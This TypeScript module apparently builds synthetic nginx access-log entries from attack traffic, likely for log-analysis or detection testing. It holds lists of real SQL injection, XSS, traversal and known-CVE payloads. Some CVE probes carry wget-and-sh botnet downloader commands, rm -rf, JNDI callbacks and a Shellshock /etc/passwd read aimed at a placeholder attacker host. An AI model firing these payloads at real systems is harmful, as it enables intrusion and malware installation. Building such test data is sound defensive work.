/**
 * Injection and exploit payloads as they reach an access log: SQL injection, XSS, path traversal
 * and known-CVE probes, each in the encodings tools actually use (percent-encoded, form-encoded,
 * raw with only spaces encoded, double-encoded, SQL comments for spaces). nginx writes `"` and `\`
 * in the request line as `\x22` and `\x5C`, so the log text keeps the combined format parseable.
 */
import type { Rng } from './rng.js';

/** nginx access-log escaping (escape=default) for `"`, `\` and bytes outside printable ASCII. */
export function nginxEscape(text: string): string {
  let out = '';
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x22 || c === 0x5c || c < 0x20 || c > 0x7e) out += `\\x${c.toString(16).toUpperCase().padStart(2, '0')}`;
    else out += text[i];
  }
  return out;
}

function percentAll(text: string): string {
  return encodeURIComponent(text).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
}

/** Puts a raw payload on the wire the way one of several tools would. */
export function onTheWire(raw: string, style: number, sqlComments = false): string {
  switch (style % 5) {
    case 0:
      return percentAll(raw);
    case 1:
      return percentAll(raw).replace(/%20/g, '+');
    case 2:
      return nginxEscape((sqlComments ? raw.replace(/ /g, '/**/') : raw).replace(/ /g, '%20'));
    case 3:
      return nginxEscape(raw.replace(/ /g, '+'));
    default:
      return percentAll(raw).replace(/%/g, '%25');
  }
}

function mixCase(text: string, rng: Rng): string {
  let out = '';
  for (const ch of text) out += rng.chance(0.5) ? ch.toUpperCase() : ch.toLowerCase();
  return out;
}

const SQLI = [
  "1' OR '1'='1", "1' OR 1=1-- -", '1" OR "1"="1', "' UNION SELECT NULL,NULL,NULL-- -",
  '-1 UNION ALL SELECT 1,2,3,group_concat(table_name) FROM information_schema.tables-- -', '1 AND SLEEP(5)',
  "1' AND SLEEP(5)#", "1; WAITFOR DELAY '0:0:5'--", '1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)',
  "1' AND extractvalue(1,concat(0x7e,version()))-- -", '1 AND 1=CONVERT(int,@@version)', "1' ORDER BY 10-- -",
  "admin'--", '1) AND 1=1 AND (1=1', '1 AND 3141=3141', "1' AND '7411'='7411", "' OR ''='", '1 or pg_sleep(5)--',
  '1;SELECT pg_sleep(5)--', "1' UNION SELECT username,password FROM users-- -", '1 UNION SELECT @@version,user(),database()-- -',
  "1' AND (SELECT COUNT(*) FROM sysobjects)>0-- -", '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))',
  "1%' AND 2*3*8=6*8 AND 'x%'='x", "1' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- -", '1 procedure analyse()',
  "1' UNION SELECT load_file('/etc/passwd')-- -", "'; DROP TABLE users;--", '1 AND benchmark(5000000,md5(1))',
] as const;
const SQLI_PARAMS = [
  '/products?id=', '/search?q=', '/category/jackets?sort=', '/api/v1/products?category=', '/product.php?id=', '/index.php?id=',
  '/news.php?id=', '/item?id=', '/blog/?p=', '/api/v1/orders?status=', '/products/12345?variant=', '/login?user=',
] as const;

export function sqliProbe(rng: Rng, style: number): string {
  let payload: string = rng.pick(SQLI);
  if (rng.chance(0.25)) payload = payload.replace(/union|select|sleep|and|or|from/gi, (w) => mixCase(w, rng));
  return `${rng.pick(SQLI_PARAMS)}${onTheWire(payload, style, true)}`;
}

const XSS = [
  '<script>alert(1)</script>', '<script>alert(document.cookie)</script>', '"><script>alert(String.fromCharCode(88,83,83))</script>',
  '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>', '<svg onload=confirm(1)>', 'javascript:alert(1)', "'-alert(1)-'",
  '<iframe src="javascript:alert(1)">', "<body onload=alert('xss')>", '"><img src=x onerror=prompt(1)>',
  '<details open ontoggle=alert(1)>', "'><script src=//xss.report/c/abc></script>", '<ScRiPt>alert(1)</sCrIpT>',
  '<a href="javascript:alert(1)">x</a>', '"><input autofocus onfocus=alert(1)>', '<math><mtext></mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '{{constructor.constructor(\'alert(1)\')()}}', '<marquee onstart=alert(1)>',
] as const;
const XSS_PARAMS = [
  '/search?q=', '/?s=', '/contact?name=', '/login?next=', '/products?ref=', '/?redirect=', '/?lang=', '/error?msg=', '/blog/?q=',
] as const;

export function xssProbe(rng: Rng, style: number): string {
  const payload = rng.pick(XSS);
  if (rng.chance(0.1)) return `/${onTheWire(payload, 2)}`;
  return `${rng.pick(XSS_PARAMS)}${onTheWire(payload, style)}`;
}

const TRAVERSAL = [
  '../../../../etc/passwd', '../../../../../../etc/passwd', '....//....//....//etc/passwd', '../../../../windows/win.ini',
  '..\\..\\..\\windows\\win.ini', '/etc/passwd\u0000', '../../../../proc/self/environ', '../../../../etc/shadow',
  'php://filter/convert.base64-encode/resource=index.php', 'php://filter/read=convert.base64-encode/resource=../config.php',
  'file:///etc/passwd', '....\\/....\\/....\\/etc/passwd', '../../../../../../../../../../etc/hosts', '../../.env',
  '../../../../var/log/nginx/access.log', '/../../../../boot.ini',
] as const;
const TRAVERSAL_ENCODED = [
  '..%2f..%2f..%2f..%2fetc%2fpasswd', '..%252f..%252f..%252fetc%252fpasswd', '%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%af..%c0%afetc/passwd', '..%5c..%5c..%5cwindows%5cwin.ini',
  '%252e%252e%252f%252e%252e%252fetc%252fpasswd', '/..%01/..%01/..%01/etc/passwd',
] as const;
const TRAVERSAL_PARAMS = ['/download?file=', '/index.php?page=', '/?file=', '/image?path=', '/api/v1/files?name=', '/view?template=', '/?lang='] as const;
const TRAVERSAL_PATHS = ['/static/', '/assets/', '/images/', '/files/', '/'] as const;

/** A traversal probe and the status our site answers it with. */
export function traversalProbe(rng: Rng, style: number): { uri: string; status: number } {
  const r = rng.next();
  if (r < 0.35) {
    return { uri: `${rng.pick(TRAVERSAL_PATHS)}${rng.pick(TRAVERSAL_ENCODED)}`, status: 404 };
  }
  if (r < 0.5) {
    // A raw ../ in the path above the root: nginx refuses the request line itself.
    return { uri: `${rng.pick(TRAVERSAL_PATHS)}${nginxEscape(rng.pick(TRAVERSAL).replace(/ /g, '%20'))}`, status: 400 };
  }
  const param = rng.pick(TRAVERSAL_PARAMS);
  const payload = rng.chance(0.3) ? rng.pick(TRAVERSAL_ENCODED) : onTheWire(rng.pick(TRAVERSAL), style);
  return { uri: `${param}${payload}`, status: param === '/?file=' || param === '/?lang=' ? 200 : 404 };
}

export interface CveProbe {
  method: string;
  uri: string;
  status: number;
  /** When the exploit rides in the User-Agent. */
  agent?: string;
}

type CveMaker = (rng: Rng, cb: string) => CveProbe;

function jndi(rng: Rng, cb: string): string {
  const proto = rng.pick(['ldap', 'ldap', 'rmi', 'dns', 'ldaps']);
  const target = `${cb}:${rng.pick([1389, 1389, 389, 12344, 53])}/${rng.pick(['a', 'Exploit', 'Basic/Command/Base64/d2dldCBodHRwOi8v', 'o=tomcat', rng.hex(10)])}`;
  return rng.chance(0.3)
    ? `\${\${lower:j}\${lower:n}di:\${lower:${proto[0]}}${proto.slice(1)}://${target}}`
    : rng.chance(0.2)
      ? `\${\${::-j}\${::-n}\${::-d}\${::-i}:${proto}://${target}}`
      : `\${jndi:${proto}://${target}}`;
}

const CVE_PROBES: readonly CveMaker[] = [
  (r, cb) => ({ method: 'GET', uri: `/?x=${onTheWire(jndi(r, cb), r.int(3))}`, status: 200 }),
  (r, cb) => ({ method: 'GET', uri: '/', status: 200, agent: nginxEscape(jndi(r, cb)) }),
  (r, cb) => ({ method: 'GET', uri: `/${onTheWire(jndi(r, cb), 0)}`, status: 404, agent: nginxEscape(jndi(r, cb)) }),
  () => ({ method: 'GET', uri: '/?class.module.classLoader.URLs%5B0%5D=0', status: 200 }),
  () => ({ method: 'POST', uri: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp', status: 200 }),
  (r) => ({ method: r.pick(['GET', 'POST']), uri: r.pick(['/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', '/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh']), status: 400 }),
  () => ({ method: 'GET', uri: '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd', status: 400 }),
  (r) => ({ method: r.pick(['GET', 'POST']), uri: `${r.pick(['', '/laravel', '/lib', '/api', '/admin', '/www', '/public', '/app', '/backup', '/blog', '/cms', '/demo', '/crm', '/panel', '/test'])}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`, status: 404 }),
  (r) => ({ method: 'GET', uri: nginxEscape(r.pick([
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
    '/?s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1',
    '/public/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
    '/index.php?s=captcha',
  ])), status: 404 }),
  () => ({ method: 'GET', uri: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/', status: 404 }),
  () => ({ method: 'POST', uri: '/template/aui/text-inline.vm', status: 404 }),
  () => ({ method: 'POST', uri: '/mgmt/tm/util/bash', status: 404 }),
  () => ({ method: 'GET', uri: '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd', status: 404 }),
  () => ({ method: 'GET', uri: '/vpn/../vpns/cfg/smb.conf', status: 404 }),
  () => ({ method: 'GET', uri: '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', status: 404 }),
  () => ({ method: 'GET', uri: '/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/', status: 400 }),
  () => ({ method: 'POST', uri: '/GponForm/diag_Form?images/', status: 404 }),
  () => ({ method: 'POST', uri: '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax', status: 404 }),
  () => ({ method: 'GET', uri: '/cgi-bin/test.cgi', status: 404, agent: nginxEscape('() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"') }),
  () => ({ method: 'PUT', uri: '/SDK/webLanguage', status: 404 }),
  () => ({ method: 'POST', uri: '/_ignition/execute-solution', status: 404 }),
  () => ({ method: 'GET', uri: '/autodiscover/autodiscover.json?@zdi/Powershell?X-Rps-CAT=&Email=autodiscover/autodiscover.json%3F@zdi', status: 404 }),
  () => ({ method: 'POST', uri: '/ui/vropspluginui/rest/services/uploadova', status: 404 }),
  (r, cb) => ({ method: 'GET', uri: `/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://${cb}:${r.range(8000, 9000)}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1`, status: 404 }),
  (_r, cb) => ({ method: 'GET', uri: `/shell?cd+/tmp;rm+-rf+*;wget+http://${cb}/jaws;sh+/tmp/jaws`, status: 404 }),
  () => ({ method: 'POST', uri: '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', status: 404 }),
  (_r, cb) => ({ method: 'GET', uri: `/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://${cb}/t%7Csh%60)`, status: 404 }),
  () => ({ method: 'POST', uri: '/ztp/cgi-bin/handler', status: 404 }),
  () => ({ method: 'POST', uri: '/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y', status: 404 }),
  () => ({ method: 'GET', uri: "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'id')", status: 404 }),
  () => ({ method: 'POST', uri: '/cli?remoting=false', status: 404 }),
  () => ({ method: 'GET', uri: '/api/v1/totp/user-backup-code/../../license/keys-status/%3Bid', status: 404 }),
  (_r, cb) => ({ method: 'POST', uri: `/boaform/admin/formLogin?username=admin&psd=admin&cmd=wget+http://${cb}/mips`, status: 404 }),
  () => ({ method: 'GET', uri: '/solr/admin/cores?action=CREATE&name=$%7Bjndi:ldap://x%7D', status: 404 }),
  () => ({ method: 'GET', uri: '/actuator/gateway/routes', status: 404 }),
  () => ({ method: 'POST', uri: '/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', status: 404 }),
];

/** An exploit attempt for a known CVE; `callback` is the attacker's download host. */
export function cveProbe(rng: Rng, index: number, callback: string): CveProbe {
  return CVE_PROBES[index % CVE_PROBES.length](rng, callback);
}

export const CVE_PROBE_COUNT = CVE_PROBES.length;
